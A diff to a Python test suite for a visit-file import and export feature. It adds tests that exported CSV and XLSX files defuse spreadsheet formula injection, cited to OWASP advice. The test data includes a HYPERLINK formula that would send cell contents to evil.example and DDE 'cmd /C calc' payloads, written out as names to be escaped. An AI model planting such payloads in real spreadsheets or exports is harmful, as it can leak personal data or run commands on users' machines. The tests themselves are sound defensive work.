@@ -3,15 +3,17 @@ imported row comes back unchanged in the next export."""
 
 from datetime import UTC, date, datetime, timedelta
 
+import openpyxl
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
+from omzien.accounts.permissions import SYSTEM
 from omzien.agenda.services import cancel_session
 from omzien.audit.models import AuditEvent
-from omzien.people.models import Purpose
+from omzien.people.models import Person, Purpose
 from omzien.visitfiles.exporting import export_visits
-from omzien.visitfiles.formats import VisitFileError
+from omzien.visitfiles.formats import VisitFileError, open_writer
 from omzien.visitfiles.importing import import_visits
 from tests.factories import (
     ConsentFactory,
@@ -21,7 +23,14 @@ from tests.factories import (
     VisitFactory,
 )
 from tests.visitfiles.conftest import TODAY
-from tests.visitfiles.files import WITH_CONSENT, counts, read_rows, write_csv, write_xlsx
+from tests.visitfiles.files import (
+    WITH_CONSENT,
+    counts,
+    read_back,
+    read_rows,
+    write_csv,
+    write_xlsx,
+)
 
 MAY, JUNE = datetime(2026, 5, 1, 12, tzinfo=UTC), datetime(2026, 6, 1, 12, tzinfo=UTC)
 ROWS = [
@@ -56,7 +65,8 @@ def test_one_row_per_named_visit_sorted_with_consent(network, tmp_path):
     assert rows[0] == WITH_CONSENT
     gerda = [f"omzien-{door.pk}", "Gerda", "", "", "De Benring", "Koffieochtend", "2026-03-17"]
     assert rows[1:] == [ROWS[3], ROWS[2], ROWS[0], ROWS[1], [*gerda, "names"]]
-    assert (tmp_path / "out.csv").read_bytes().startswith(b"person_ref,")  # no byte order mark
+    # No byte order mark; every field quoted (OWASP's advice against formula injection).
+    assert (tmp_path / "out.csv").read_bytes().startswith(b'"person_ref","first_name",')
 
 
 def test_the_export_is_audit_logged(network, tmp_path):
@@ -87,7 +97,9 @@ def test_round_trip(network, tmp_path, extension):
     door = PersonFactory(ref=None, first_name="Gerda", last_name="", village=None)
     stormy = SessionFactory(activity=network["koffie"], date=date(2026, 3, 17))
     VisitFactory(session=stormy, person=door)
-    cancel_session(stormy, "Storm")  # a visit recorded before the session was cancelled
+    cancel_session(
+        stormy, "Storm", acting_user=SYSTEM
+    )  # a visit recorded before the session was cancelled
     first = tmp_path / f"first.{extension}"
     export_visits(first)
     before = counts()
@@ -111,6 +123,80 @@ def test_round_trip(network, tmp_path, extension):
     assert all(tuple(row) in exported for row in ROWS)  # every imported row, unchanged
 
 
+FORMULA_NAMES = [
+    ("f1", '=HYPERLINK("http://evil.example/?n="&B2;"Klik hier")', "+cmd|' /C calc'!A0"),
+    ("f2", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"),
+    ("f3", "'=al met aanhalingsteken", "'t Hart"),
+    ("=f4", "\uff1dSOM(A1)", ""),
+]
+
+
+def _people_with_formula_names(network):
+    session = SessionFactory(activity=network["koffie"], date=date(2026, 3, 17))
+    for ref, first, last in FORMULA_NAMES:
+        person = PersonFactory(ref=ref, first_name=first, last_name=last, village=None)
+        VisitFactory(session=session, person=person)
+
+
+def test_formula_names_are_text_in_the_xlsx_export(network, tmp_path):
+    _people_with_formula_names(network)
+    export_visits(tmp_path / "out.xlsx")
+
+    book = openpyxl.load_workbook(tmp_path / "out.xlsx")  # not data_only: formulas show
+    cells = [cell for row in book.active.iter_rows() for cell in row]
+    assert cells and not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert all(cell.data_type == "s" for cell in cells if cell.value is not None)
+    names = {(row[0].value, row[1].value, row[2].value or "") for row in book.active.iter_rows()}
+    # Shown as the very names, no quote in front; only a name that starts with the quote
+    # that reading takes off gets one more.
+    shown = [*FORMULA_NAMES[:2], ("f3", "''=al met aanhalingsteken", "'t Hart"), FORMULA_NAMES[3]]
+    assert set(shown) <= names
+    first_names = {row[0].value: row[1] for row in book.active.iter_rows(min_row=2)}
+    assert first_names["f1"].quotePrefix and not first_names["f3"].quotePrefix
+
+
+def test_formula_names_are_prefixed_in_the_csv_export(network, tmp_path):
+    _people_with_formula_names(network)
+    export_visits(tmp_path / "out.csv")
+
+    rows = {row[0]: row for row in read_rows(tmp_path / "out.csv")[1:]}
+    assert rows["f1"][1:3] == ["'" + FORMULA_NAMES[0][1], "'" + FORMULA_NAMES[0][2]]
+    assert rows["f2"][1:3] == ["'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3"]
+    assert rows["f3"][1:3] == ["''=al met aanhalingsteken", "'t Hart"]
+    assert rows["'=f4"][1] == "'\uff1dSOM(A1)"
+    text = (tmp_path / "out.csv").read_text()
+    assert ',"=' not in text and ',"+' not in text and ',"@' not in text
+
+
+@pytest.mark.parametrize("extension", ["csv", "xlsx"])
+def test_formula_names_import_again_unchanged(network, tmp_path, extension):
+    _people_with_formula_names(network)
+    path = tmp_path / f"out.{extension}"
+    export_visits(path)
+    before = counts()
+    people = sorted(Person.objects.values_list("ref", "first_name", "last_name"))
+
+    result = import_visits(path, today=TODAY)
+
+    assert result.ok, result.errors
+    assert (result.people, result.sessions, result.visits, result.consents) == (0, 0, 0, 0)
+    assert result.people_completed == 0
+    after = counts()
+    assert after.pop("audit") == before.pop("audit") + 1
+    assert after == before
+    assert sorted(Person.objects.values_list("ref", "first_name", "last_name")) == people
+    assert {tuple(row[:3]) for row in read_back(path)[1:]} == set(FORMULA_NAMES)
+
+
+@pytest.mark.parametrize("extension", ["csv", "xlsx"])
+def test_formula_signs_in_a_coordinators_own_file_are_plain_text(network, tmp_path, extension):
+    writer = write_xlsx if extension == "xlsx" else write_csv
+    rows = [["=p1", "=Jan", "+Jansen", "", "De Benring", "Koffieochtend", "2026-03-03", ""]]
+    assert import_visits(writer(tmp_path / f"in.{extension}", rows), today=TODAY).ok
+    person = Person.objects.get()
+    assert (person.ref, person.first_name, person.last_name) == ("=p1", "=Jan", "+Jansen")
+
+
 def test_shared_names_are_written_as_slugs(network, twello, tmp_path):
     imported(tmp_path)
     PlaceFactory(name="De Benring", slug="de-benring-2", village=twello)
@@ -130,11 +216,16 @@ def test_an_empty_database_exports_a_header(db, tmp_path):
 # Any valid visit rows: imported, exported, imported again.
 TUESDAYS = [date(2026, 1, 6) + timedelta(weeks=week) for week in range(20)]
 LETTER = "A-Za-zÀ-ÖØ-öø-ÿ"
-name_text = st.from_regex(rf"[{LETTER}]([{LETTER}' ,-]{{0,10}}[{LETTER}])?", fullmatch=True)
+plain_name = st.from_regex(rf"[{LETTER}]([{LETTER}' ,-]{{0,10}}[{LETTER}])?", fullmatch=True)
+# Names a spreadsheet would take as a formula, or that start with the quote we add.
+FORMULA_STARTS = ["=", "+", "-", "@", "'", "''", "'=", "\uff1d", "=HYPERLINK(", "+cmd|' /C "]
+formula_name = st.tuples(st.sampled_from(FORMULA_STARTS), plain_name).map("".join)
+name_text = st.one_of(plain_name, formula_name)
 person = st.fixed_dictionaries(
     {
         "first_name": name_text,
         "last_name": st.one_of(st.just(""), name_text),
+        "ref_start": st.sampled_from(["r", "=r", "-r", "@r", "'=r"]),
         "village": st.sampled_from(["", "Twello", "Voorst"]),
         "consent": st.sets(st.sampled_from(Purpose.values)),
     }
@@ -161,20 +252,26 @@ def test_any_valid_rows_round_trip(network, tmp_path_factory, people, visits, ex
             continue
         who = people[number]
         consent = ";".join(purpose for purpose in Purpose.values if purpose in who["consent"])
-        ref = f"r-{number}"
+        ref = f"{who['ref_start']}-{number}"
         rows.append(
             [ref, who["first_name"], who["last_name"], who["village"], "De Benring"]
             + ["Koffieochtend", TUESDAYS[day].isoformat(), consent]
         )
     if not rows:
         return
-    writer = write_xlsx if extension == "xlsx" else write_csv
+    # Written as our export writes (a name that starts with ' gets one more), so the
+    # people imported have exactly these names, quotes and formula signs included.
+    source = folder / f"in.{extension}"
+    writer = open_writer(source, extension)
+    for row in [WITH_CONSENT, *rows]:
+        writer.write(row)
+    writer.close()
     with transaction.atomic():
-        first = import_visits(writer(folder / f"in.{extension}", rows), today=TODAY)
+        first = import_visits(source, today=TODAY)
         assert first.ok, first.errors
         assert first.visits == len(rows)
         export_visits(folder / f"out.{extension}")
-        exported = read_rows(folder / f"out.{extension}")
+        exported = read_back(folder / f"out.{extension}")
         assert sorted(exported[1:]) == sorted(rows)
         again = import_visits(folder / f"out.{extension}", today=TODAY)
         assert again.ok and (again.people, again.visits, again.consents) == (0, 0, 0)
